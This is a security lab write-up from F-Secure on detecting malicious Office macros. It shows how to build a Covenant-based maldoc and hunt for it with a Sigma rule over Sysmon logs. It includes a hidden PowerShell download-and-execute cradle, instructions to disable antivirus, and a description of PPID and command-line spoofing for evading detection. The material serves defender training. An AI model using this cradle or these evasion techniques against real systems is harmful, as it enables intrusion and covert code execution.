Attack Detection Fundamentals: Initial Access - Lab #1

By Riccardo Ancarani on 24 June, 2020

In the first part of F-Secure Consulting's Attack Detection Workshop series, covering Initial Access, we explored a number of offensive techniques for obtaining a foothold within a target environment through the creation and successful delivery of malicious documents (also known as maldocs). We also explored the detection strategies that can be employed to spot these using our own detection stacks. The following blog provides a step-by-step guide to recreating the demos from that Initial Access workshop, as well as exercises to further the reader's understanding of the concepts shown.

A recording of the workshop can be found here.

In the first lab of this series, we are going to build and analyse a malicious Excel/Word macro that uses PowerShell to establish a C2 channel. The aim of this simulation will be to highlight the importance of the parent-child process analysis.

Parent-child analysis is a general concept, whereby an analyst seeks anomalies within process creation events. In this case, we are going to craft a basic Excel macro that is used to spawn PowerShell.

The reader will have the opportunity to analyse the traces left within Sysmon logs. We will finish the exercise with a small proof-of-concept of one of the many techniques that can be used to evade this type of detection. Considering that this is the firstlab, a more comprehensive walkthrough will be provided that will include part of the analysis.

DISCLAMER: Set up of the tools and the testing environment might not be covered comprehensively within this lab. We will assume basic familiarity with Linux/Windows command line and the ability of the reader to deploy the necessary frameworks. For that, it is recommended to follow the suggested references for the official tutorials and walkthrough published by the framework's author.


Required Tools

  • Windows VM
  • Microsoft Office
  • Covenant
  • AV + Host Firewall turned OFF


1 - Listener Setup

Create a listener with a framework of your choice, we will use Covenant, but any framework that supports PowerShell launchers will work.

On the "Listeners" tab, click "Create":



Configure the "ConnectPort" and "ConnectAddress" parameters with the IP address of your Covenant instance and the port where the implant will connect to:


Click on "Create" to start the listener.

2 - Payload GenerationWe will use the default PowerShell Covenant implant without any modification. AV will need to be turned off as Covenant's out-of-the-box signatures are well-known.

Don't worry if this doesn't sound very realistic, the aim of this lab is just to demonstrate the initial access technique, in a later lab we will also cover common evasion techniques.

Select "Launchers" and then "PowerShell":


The default options will be enough for now, click on "Generate":


Below you will see a very long PowerShell command with a base64 string, that is the full Covenant .NET implant. This payload is stageless, meaning that the payload is self-contained and will not need to download any other component to be fully-operational. In some cases, this might be desired since the staging process often introduces operational risks that could result in being detected.

However, in this case, we want out payload to be staged. To do so, we can click on "Host" and insert the path where our payload will be hosted:Click on "Host" and go back to the "Generate" tab. You should see a new one-liner that makes use of the Invoke-Expression cmdlet (shortened to "iex") to execute our hosted PowerShell script:


The payload uses a common PowerShell download and execute cradle, that will fetch the remote content (using the URL you set before) and interpret it as a PowerShell command.The payload will be something similar to this:

powershell -Sta -Nop -Window Hidden -Command "iex (New-Object Net.WebClient).DownloadString('')"

Or in encoded form:


To avoid any problems with escaping quotes, you can also use the encoded launcher.The final stage of our attack will be the creation of a Word document with a malicious VBA macro. The macro will execute when the document opens, subsequently triggering the whole staging process we just created.To enable macro editing, open Microsoft Word and right-click on the toolbar on top of the screen and select "Customize the Ribbon":


Check the "Developer" box as follows:



A "Developer" tab should now be visible within the toolbar. Select "Visual Basic":


This will open the Visual Basic editor where we will place or macro code. It is possible use the following code as a template:

Sub AutoOpen()
End Sub

Execute the macro with the green arrow button and you should see a new connection within Covenant.



3 - Analysis with SigmaSigma is a framework that enables the creation of vendor-neutral SIEM signatures. It supports multiple backends such as Splunk, ELK, QRadar and native PowerShell.We will use a basic Sigma rule to hunt within Sysmon event log and find anomalous processes being spawned by an Office process. The rule we will use is the following and can be found here:

title: Microsoft Office Product Spawning Windows Shell
id: 438025f9-5856-4663-83f7-52f878a70a50
status: experimental
description: Detects a Windows command line executable started from Microsoft Word, Excel, Powerpoint, Publisher and Visio.
    - attack.execution
    - attack.defense_evasion
    - attack.t1059
    - attack.t1202
    - car.2013-02-003
    - car.2014-04-003author: Michael Haag, Florian Roth, Markus Neis
date: 2018/04/06
    category: process_creation
    product: windows
            - '*\WINWORD.EXE'
            - '*\EXCEL.EXE'
            - '*\POWERPNT.exe'
            - '*\MSPUB.exe'
            - '*\VISIO.exe'
            - '*\OUTLOOK.EXE'
            - '*\cmd.exe'
            - '*\powershell.exe'
            - '*\wscript.exe'
            - '*\cscript.exe'
            - '*\sh.exe'
            - '*\bash.exe'
            - '*\scrcons.exe'
            - '*\schtasks.exe'
            - '*\regsvr32.exe'
            - '*\hh.exe'
            - '*\wmic.exe' #
            - '*\mshta.exe'
            - '*\rundll32.exe'
            - '*\msiexec.exe'
            - '*\forfiles.exe'
            - '*\scriptrunner.exe'
            - '*\mftrace.exe'
            - '*\AppVLP.exe'
            - '*\svchost.exe' #
    condition: selection
    - CommandLine
    - ParentCommandLine
    - unknownlevel: high

In order to use Sigma, clone the GitHub repository andinstall the required dependencies. Since we don't want to deploy a SIEM just to test this rule, we can use the PowerShell backend to generate a cmdlet that will go through the logs manually:

./sigmac -t powershell ../rules/windows/process_creation/win_office_shell.yml
Get-WinEvent -LogName Microsoft-Windows-Sysmon/Operational | where {($_.ID -eq "1" -and ($_.message -match "ParentImage.*.*\\WINWORD.EXE" -or $_.message -match "ParentImage.*.*\\EXCEL.EXE" -or $_.message -match "ParentImage.*.*\\POWERPNT.exe" -or $_.message -match "ParentImage.*.*\\MSPUB.exe" -or $_.message -match "ParentImage.*.*\\VISIO.exe" -or $_.message-match "ParentImage.*.*\\OUTLOOK.EXE") -and ($_.message -match "Image.*.*\\cmd.exe" -or $_.message -match "Image.*.*\\powershell.exe" -or $_.message -match "Image.*.*\\wscript.exe" -or $_.message -match "Image.*.*\\cscript.exe" -or $_.message -match "Image.*.*\\sh.exe" -or $_.message -match "Image.*.*\\bash.exe" -or $_.message -match "Image.*.*\\scrcons.exe" -or $_.message -match "Image.*.*\\schtasks.exe" -or $_.message -match "Image.*.*\\regsvr32.exe" -or $_.message -match "Image.*.*\\hh.exe" -or $_.message -match "Image.*.*\\wmic.exe" -or $_.message -match "Image.*.*\\mshta.exe" -or $_.message -match "Image.*.*\\rundll32.exe" -or $_.message -match "Image.*.*\\msiexec.exe" -or $_.message -match "Image.*.*\\forfiles.exe" -or$_.message -match "Image.*.*\\scriptrunner.exe" -or $_.message -match "Image.*.*\\mftrace.exe" -or $_.message -match "Image.*.*\\AppVLP.exe" -or $_.message -match "Image.*.*\\svchost.exe")) } | select TimeCreated,Id,RecordId,ProcessId,MachineName,Message

If we execute the resulting PowerShell command on our compromised system, we should obtain something like this:


4 - Parent PIDand Command-line Argument Spoofing

Parent-child analysis is not a silver bullet for detecting macro-based abuses, the PPID Spoofing technique is just one of the many examples with which these detections can be avoided.In a nutshell, PPID Spoofing is a Defence Evasion technique that allows the attacker to spawn a new process with a different parent.

In this case, we will use an open-source macro template that implements PPID spoofing to decouple the execution of PowerShell from our Office document.We will use the code from the following repository as a base. Since our installation of Office is32-bit, we will use macro.vba.The relevant line that needs to be changed is the one that specifies the PowerShell command to execute:


Another interesting technique implemented in the VBA code is Command-line Argument Spoofing. Which, at a high-level, allows us to mask the true command-line arguments of our spawned PowerShell process.

NOTE: More technical details of these two evasion techniques can be found in a great talk by Will Burgess.

Execute the new macro code and try launching again the Sigma rule search we previously used. You should only see the first attack we performed.Analyse the Sysmon event logs, you should find an entry similar to the following:


Notice the "CommandLine" field in the event - although it looks harmless, it was our Covenant implant being launched!


In this first lab we covered how an attacker could use macro-based payloads to obtain an initial foothold in a targeted environment. Despite the simplicity of the showed technique, real-life actors often rely on similar mechanisms for their initial access strategies. The reader was taken through both the generation of the malicious document and the first steps of the triage process from an host events perspective.

Where applicable, bypasses were provided for the shown detections. This was done not to empower attackers, but rather to inform defenders that there is no such thing as an infallible technique and that the process of building a robust detection is a continuous process.

The main takeaways from this first lab are:

  • The importance of proper logging in place to monitor process creation events.
  • The parent-child process analysis, that would help identifying anomalous behaviours. Although onlythe Office example is presented, this general model is applicable to many other scenarios.

The next lab of thisworkshop can be found here.